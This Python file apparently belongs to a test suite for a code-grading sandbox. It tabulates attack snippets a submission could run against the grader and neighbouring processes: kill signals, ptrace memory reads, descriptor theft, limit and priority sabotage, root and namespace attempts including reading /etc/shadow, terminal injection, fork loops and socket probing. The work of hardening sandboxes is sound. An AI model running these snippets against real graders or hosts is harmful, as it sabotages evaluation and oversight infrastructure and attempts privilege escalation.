"""Reaching other processes: the grader, the zygote, submissions that are graded at the same time."""

from __future__ import annotations

import textwrap

from attacks.table import Attack, own_cell

NEAR = """
import ctypes, fcntl, os, resource, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
near = [os.getppid(), *(pid for pid in range(max(2, me - 400), me + 50) if pid != me)]

def on_each(*ways):
    for pid in near:
        for way in ways:
            try:
                way(pid)
            except (OSError, ValueError, AttributeError):
                pass
"""

CODE = {
    "signals": ("kills the grader, its zygote and siblings", "on_each(lambda pid: os.kill(pid, 9), lambda pid: os.killpg(pid, 9))"),
    "signals_to_all": ("kills everything that it may", "on_each(lambda pid: os.kill(-1, 9), lambda pid: os.kill(0, 15))"),
    "signals_to_threads": (
        "kills by thread, by queue and by descriptor",
        """
        on_each(lambda pid: libc.syscall(234, pid, pid, 9), lambda pid: libc.syscall(200, pid, 9),
                lambda pid: libc.syscall(129, pid, 9, ctypes.create_string_buffer(128)),
                lambda pid: libc.syscall(297, pid, pid, 9, ctypes.create_string_buffer(128)),
                lambda pid: libc.syscall(424, libc.syscall(434, pid, 0), 9, 0, 0))
        """,
    ),
    "signals_by_owned_descriptors": (
        "has the kernel send signals for it, with F_SETOWN, F_SETSIG and FIOSETOWN",
        """
        import socket
        mine = list(range(3, 32))
        ends = []
        for make in (os.pipe, socket.socketpair):
            try:
                ends.append(make())
            except OSError:
                pass
        for pair in ends:
            mine += [end if isinstance(end, int) else end.fileno() for end in pair]
        def own(pid):
            for fd in mine:
                for way in (lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, pid), lambda: fcntl.fcntl(fd, 10, 9),
                            lambda: fcntl.ioctl(fd, 0x8901, struct.pack('i', pid)),
                            lambda: fcntl.fcntl(fd, 15, struct.pack('ii', 1, pid)),
                            lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK) if fd in (0, 1, 2) else 0):
                    try:
                        way()
                    except OSError:
                        pass
        on_each(own)
        for pair in ends:
            try:
                fcntl.fcntl(pair[0], fcntl.F_SETFL, os.O_ASYNC)
                os.write(pair[1], b'x')
            except (OSError, TypeError):
                pass
        """,
    ),
    "signals_by_parent_death": ("asks for signals at its parent's death", "libc.prctl(1, 9); libc.prctl(36, 1); os.getppid()"),
    "tracing": (
        "traces and reads other processes",
        """
        libc.prctl(0x59616D61, -1, 0, 0, 0)
        buffer = ctypes.create_string_buffer(64)
        piece = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        on_each(lambda pid: libc.ptrace(16, pid, 0, 0), lambda pid: libc.ptrace(0x4206, pid, 0, 0),
                lambda pid: libc.syscall(310, pid, piece, 1, piece, 1, 0),
                lambda pid: libc.syscall(311, pid, piece, 1, piece, 1, 0), lambda pid: libc.syscall(312, pid, me, 0, 0, 0))
        """,
    ),
    "descriptors": ("takes descriptors out of other processes", "on_each(lambda pid: libc.syscall(438, libc.syscall(434, pid, 0), 3, 0))"),
    "limits": (
        "lowers other processes' limits",
        """
        on_each(lambda pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
                lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
        """,
    ),
    "priorities": (
        "slows other processes down",
        """
        on_each(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda pid: os.sched_setaffinity(pid, {0}),
                lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                lambda pid: libc.syscall(251, 1, pid, 0x6007), lambda pid: open(f'/proc/{pid}/oom_score_adj', 'w').write('1000'))
        """,
    ),
    "process_groups": ("moves into other groups and sessions", "on_each(lambda pid: os.setpgid(0, pid), lambda pid: os.setpgid(pid, me)); libc.setsid()"),
    "terminal": (
        "types into the grader's terminal",
        """
        for name in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/stdin'):
            try:
                fd = os.open(name, os.O_RDWR)
                fcntl.ioctl(fd, 0x5412, b'x')
            except OSError:
                pass
        """,
    ),
    "new_processes": (
        "starts processes in every way",
        """
        for way in (os.fork, os.forkpty, lambda: libc.vfork(), lambda: libc.syscall(56, 17, 0, 0, 0, 0),
                    lambda: libc.syscall(435, (ctypes.c_uint64 * 11)(0x100, 0, 0, 0, 17), 88),
                    lambda: os.posix_spawn('/bin/true', ['true'], {}), lambda: os.execv('/bin/true', ['true'])):
            try:
                if way() == 0:
                    while True: pass
            except OSError:
                pass
        """,
    ),
    "namespaces": ("makes namespaces to be root in", "[libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000)]; libc.setns(3, 0)"),
    "identity": (
        "becomes somebody else",
        """
        for way in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]),
                    lambda: libc.syscall(122, 0), lambda: libc.capset(0, 0), lambda: libc.personality(0x0400000)):
            try:
                way()
            except OSError:
                pass
        print('root' if 0 in os.getresuid() and open('/etc/shadow').read() else '')
        """,
    ),
    "sockets": (
        "connects to the network and to other processes",
        """
        import socket
        for family in range(1, 46):
            for kind in (1, 2, 3, 5):
                try:
                    one = socket.socket(family, kind)
                    print('canary-' + '9f2c61d07b', 'socket', family, kind)
                except OSError:
                    pass
        """,
    ),
    "own_socket_as_a_server": (
        "makes its own socket a server",
        """
        import socket
        for fd in range(3, 32):
            try:
                one = socket.socket(fileno=os.dup(fd))
                for way in (lambda: one.bind('x'), lambda: one.listen(), lambda: one.connect('/run/x'),
                            lambda: one.sendmsg([b''], [(1, 1, struct.pack('i', 0))])):
                    try:
                        way()
                    except OSError:
                        pass
                one.detach()
            except OSError:
                pass
        """,
    ),
    "clocks_and_names": (
        "sets the clock and the machine's name",
        "libc.syscall(227, 0, (ctypes.c_int64 * 2)(0, 0)); libc.syscall(164, (ctypes.c_int64 * 2)(0, 0), 0); libc.sethostname(b'x', 1)",
    ),
}  # fmt: skip

ATTACKS: dict[str, Attack] = {
    name: own_cell(what, f"{NEAR}\n{textwrap.dedent(code).strip()}") for name, (what, code) in CODE.items()
}
